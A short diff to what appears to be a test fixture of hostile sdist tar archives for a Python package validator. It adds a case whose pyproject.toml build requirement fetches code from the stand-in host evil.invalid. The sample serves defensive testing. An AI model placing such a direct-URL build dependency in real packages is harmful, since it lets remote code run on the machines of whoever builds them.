@@ -153,5 +153,11 @@ export const HOSTILE_TARS: readonly Hostile[] = [
   tar('sdist-top-folder', 'a file beside it', [{ ...A, name: 'setup.py' }]),
   tar('sdist-top-folder', 'two', [{ ...A, name: 'other/setup.py' }]),
   file('metadata-missing', 'no PKG-INFO', gzip(writeTar([A]))),
+  tar('build-requires-direct-url', 'among others', [
+    {
+      name: 'demo-1.0/pyproject.toml',
+      data: '[build-system]\nrequires = ["setuptools", "demo_tool[x] @ http://evil.invalid/x.tar.gz"]\n',
+    },
+  ]),
   tar('pyproject-invalid', 'no TOML', [{ name: 'demo-1.0/pyproject.toml', data: '[build-system' }]),
 ];
